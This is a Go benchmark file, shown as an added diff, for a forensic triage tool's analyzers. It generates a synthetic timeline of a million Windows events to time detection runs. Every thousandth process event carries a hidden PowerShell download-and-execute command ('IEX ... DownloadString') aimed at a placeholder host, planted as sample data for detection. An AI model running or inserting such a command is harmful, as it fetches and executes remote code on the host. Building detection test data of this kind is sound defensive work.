@@ -1,0 +1,67 @@
+package analyzers
+
+import (
+	"context"
+	"fmt"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"triage/timeline"
+)
+
+// BenchmarkMillionEvents runs every analyzer over a synthetic timeline of
+// 1,000,000 events: process starts (a tenth of them interpreters, some
+// suspicious), PowerShell logs, prefetch runs and image loads.
+func BenchmarkMillionEvents(b *testing.B) {
+	const n = 1_000_000
+	db, err := timeline.Create(filepath.Join(b.TempDir(), "timeline.db"))
+	if err != nil {
+		b.Fatal(err)
+	}
+	defer db.Close()
+	w, _ := timeline.NewWriter(db)
+	a := &timeline.Artifact{Host: "h", EvidenceRoot: "r", Path: "p", Kind: "evtx", SHA256: "ab", MD5: "cd", Status: "ok"}
+	w.AddArtifact(a)
+	start := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
+	images := []string{`C:\Windows\System32\svchost.exe`, `C:\Windows\System32\conhost.exe`, `C:\Program Files\App\app.exe`,
+		`C:\Windows\System32\cmd.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`}
+	for i := 0; i < n; i++ {
+		e := timeline.Event{TS: start.Add(time.Duration(i) * time.Second), Host: "h", ArtifactID: a.ID, RecordID: int64(i), Source: "evtx", Summary: "s"}
+		switch i % 10 {
+		case 0, 1, 2, 3, 4, 5:
+			e.EventID, e.Provider = 4688, "Microsoft-Windows-Security-Auditing"
+			e.Process, e.ParentProcess = images[i%len(images)], `C:\Windows\explorer.exe`
+			e.CommandLine = fmt.Sprintf("%s /c echo %d", e.Process, i)
+			if i%1000 == 0 {
+				e.CommandLine = "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x')"
+			}
+		case 6:
+			e.EventID, e.Provider, e.Process = 7, "Microsoft-Windows-Sysmon", images[i%len(images)]
+			e.Data = map[string]any{"ImageLoaded": `C:\Windows\System32\kernel32.dll`, "Signed": "true"}
+		case 7:
+			e.EventID, e.Provider = 4104, "Microsoft-Windows-PowerShell"
+			e.ScriptBlockID = fmt.Sprintf("sb-%d", i/7000)
+			e.Data = map[string]any{"ScriptBlockText": "Get-ChildItem | Sort-Object Length", "MessageNumber": "1", "MessageTotal": "1", "ScriptBlockId": e.ScriptBlockID}
+		case 8:
+			e.Source, e.Process = "prefetch", images[i%len(images)]
+			e.Data = map[string]any{"executable": "APP.EXE", "files": []string{`\VOLUME{1}\WINDOWS\SYSTEM32\NTDLL.DLL`}}
+		default:
+			e.EventID, e.Provider = 4624, "Microsoft-Windows-Security-Auditing"
+		}
+		if err := w.AddEvent(&e); err != nil {
+			b.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		b.Fatal(err)
+	}
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		sum, err := Run(context.Background(), db, Options{})
+		if err != nil {
+			b.Fatal(err)
+		}
+		b.ReportMetric(float64(sum.Findings), "findings")
+	}
+}
